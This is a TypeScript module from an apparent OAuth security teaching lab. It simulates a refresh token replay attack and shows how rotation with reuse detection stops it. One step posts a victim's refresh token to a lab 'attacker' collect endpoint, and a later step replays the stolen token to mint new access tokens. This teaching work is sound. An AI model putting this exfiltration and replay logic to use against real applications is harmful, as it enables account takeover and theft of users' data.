/**
 * Refresh token replay: a refresh token stolen from a public client keeps minting access tokens
 * for the attacker, unless the server rotates refresh tokens and notices a retired one coming back.
 * @see [RFC 9700 §4.14](https://www.rfc-editor.org/rfc/rfc9700#section-4.14)
 */
import * as oauth from 'oauth4webapi'
import { rfc } from '../shared/spec-links.ts'
import { attackActors, defineAttack } from './attack-model.ts'
import {
  callApi,
  callbackUri,
  discoverServer,
  publicClient,
  redeemCode,
  stolenToken,
  via,
  victimSignsIn,
  waitForAttackerRecord,
} from './lab-client.ts'

const attackId = 'refresh-token-replay'
const scope = 'profile email orders:read offline_access'

export const refreshTokenReplayAttack = defineAttack({
  id: attackId,
  title: 'Refresh token replay',
  goal: 'Keep access to the victim’s account for as long as her refresh token lives, long after any access token has expired, with a copy of that refresh token.',
  summary:
    'A script injected into the app reads Alice’s refresh token from the app’s storage and sends it to the attacker. Alice goes on using the app, which refreshes its tokens. Then the attacker uses his copy. A public client has no secret, so the refresh token alone is enough, unless the server rotates refresh tokens and treats an old one coming back as theft.',
  specs: [rfc(9700, '4.14'), rfc(9700, '4.14.2'), rfc(6749, '10.4'), rfc(9700, '2.2.2')],
  actors: [
    attackActors.victim,
    attackActors.attacker,
    attackActors.client,
    attackActors.as,
    attackActors.rs,
  ],
  defence: {
    label: 'Defence: refresh token rotation with reuse detection',
    explanation:
      'Every refresh returns a new refresh token and retires the one that was used. A retired token that comes back means a copy exists: the server refuses it and revokes the whole family of tokens of that grant, the newest refresh token included. The attacker’s copy, used after Alice’s app refreshed, is worthless.',
    spec: rfc(9700, '4.14.2'),
    side: 'server',
    whenOff:
      'The app is grantlab-no-rotation, a demo client for which this server returns the same refresh token on every refresh and never retires it. Every other client gets rotation and reuse detection.',
  },
  clients: [
    {
      clientId: 'grantlab-no-rotation',
      when: 'defence-off',
      note: 'WEAKENED: refresh tokens neither rotated nor checked for reuse.',
    },
    {
      clientId: 'grantlab-lab-spa',
      when: 'defence-on',
      note: 'Its unweakened twin: a public, first-party app.',
    },
  ],
  steps: [
    {
      id: 'victim-signs-in',
      label: 'alice signs in, app gets tokens',
      title: 'Alice signs in; the app gets an access and a refresh token',
      from: 'victim',
      to: 'as',
      kind: 'redirect',
      spec: rfc(6749, '4.1'),
      explanation:
        'A normal login with PKCE. The app is a public client: it has no secret, so its refresh token is all it needs to get new access tokens.',
    },
    {
      id: 'script-steals',
      label: 'injected script sends the refresh token',
      title: 'A script injected into the app sends the refresh token to the attacker',
      from: 'client',
      to: 'attacker',
      kind: 'request',
      spec: rfc(9700, '4.14.1'),
      explanation:
        'An XSS hole or a compromised dependency runs the attacker’s code in the app’s page; it reads the refresh token where the app keeps it and posts it home. (The lab plays that script: this page sends the token to the attacker’s server.)',
    },
    {
      id: 'victim-refreshes',
      label: 'POST /token (refresh, the app)',
      title: 'Alice’s app refreshes its tokens',
      from: 'client',
      to: 'as',
      kind: 'request',
      spec: rfc(6749, '6'),
      explanation:
        'Alice keeps using the app; its access token expires and it refreshes, as it should. With rotation the token the attacker copied is now retired.',
    },
    {
      id: 'attacker-replays',
      label: 'POST /token (refresh, the copy)',
      title: 'The attacker refreshes with his copy',
      from: 'attacker',
      to: 'as',
      kind: 'request',
      spec: rfc(9700, '4.14.2'),
      explanation:
        'The attacker sends the copied refresh token with the app’s client_id, from his own machine. The server cannot tell him from the app: only whether the token is still the current one.',
    },
    {
      id: 'attacker-uses',
      label: 'GET /api/profile as alice',
      title: 'The attacker calls the API as Alice',
      from: 'attacker',
      to: 'rs',
      kind: 'request',
      spec: rfc(6750, '2.1'),
      explanation: 'A fresh access token for Alice, minted for the attacker.',
    },
  ],
  async run(ctx) {
    const app = publicClient(ctx.defence ? 'grantlab-lab-spa' : 'grantlab-no-rotation')
    const redirectUri = callbackUri(ctx.appOrigin, attackId)
    const since = ctx.now()
    const { as, tokens } = await ctx.step('victim-signs-in', async (s) => {
      const as = await discoverServer(s, ctx.issuer)
      const signedIn = await victimSignsIn(ctx.victim, s, as, {
        clientId: app.client.client_id,
        redirectUri,
        scope,
      })
      const tokens = await redeemCode(s, as, app, signedIn, redirectUri)
      if (!tokens.refresh_token) throw new Error('No refresh token came back.')
      s.token(stolenToken('Alice’s refresh token', tokens.refresh_token))
      s.summary('The app holds Alice’s access token and refresh token.')
      return { as, tokens }
    })
    const copy = await ctx.step('script-steals', async (s) => {
      await s.fetch(`${ctx.attackerOrigin}/attacker/collect`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ page: redirectUri, stolen: tokens.refresh_token }),
      })
      const record = await waitForAttackerRecord(
        s,
        ctx.attackerOrigin,
        since,
        (r) => r.channel === 'script' && r.stolen === tokens.refresh_token,
      )
      s.summary('The attacker’s server holds a copy of the refresh token.')
      return record.stolen ?? ''
    })
    await ctx.step('victim-refreshes', async (s) => {
      const response = await oauth.refreshTokenGrantRequest(
        as,
        app.client,
        app.auth,
        tokens.refresh_token ?? '',
        via(s),
      )
      const refreshed = await oauth.processRefreshTokenResponse(as, app.client, response)
      const rotated = refreshed.refresh_token !== tokens.refresh_token
      s.show({
        label: 'The refresh token after the refresh',
        value: rotated ? 'a new one: the old one is retired' : 'the same one, still valid',
      })
      s.summary(rotated ? 'The server rotated the refresh token.' : 'The server did not rotate it.')
    })
    const accessToken = await ctx.step('attacker-replays', async (s) => {
      try {
        // The attacker speaks OAuth as the app does: its client_id, his copy of the token.
        const response = await oauth.refreshTokenGrantRequest(
          as,
          app.client,
          app.auth,
          copy,
          via(s),
        )
        const minted = await oauth.processRefreshTokenResponse(as, app.client, response)
        s.summary('The server refreshed for the attacker: a new access token for Alice.')
        return minted.access_token
      } catch (error) {
        throw ctx.stopped(error, {
          check: 'refresh token reuse',
          spec: rfc(9700, '4.14.2'),
          by: 'authorization server',
          expected: { code: 'invalid_grant', text: /already used/ },
        })
      }
    })
    const profile = await ctx.step('attacker-uses', async (s) => {
      const answer = await callApi(s, ctx.appOrigin, '/api/profile', accessToken)
      s.show({ label: 'The API’s answer', value: JSON.stringify(answer.body), format: 'json' })
      s.summary(`The API answered ${answer.status} with Alice’s profile.`)
      return answer.body
    })
    return {
      status: 'succeeded',
      summary: 'The copied refresh token still works: the attacker keeps minting Alice’s tokens.',
      loot: {
        summary: 'A fresh access token for Alice, from the copied refresh token.',
        tokens: [
          stolenToken('The copied refresh token', copy),
          stolenToken('Access token minted for the attacker', accessToken),
        ],
        values: [{ label: 'Alice’s profile', value: JSON.stringify(profile), format: 'json' }],
      },
    }
  },
})
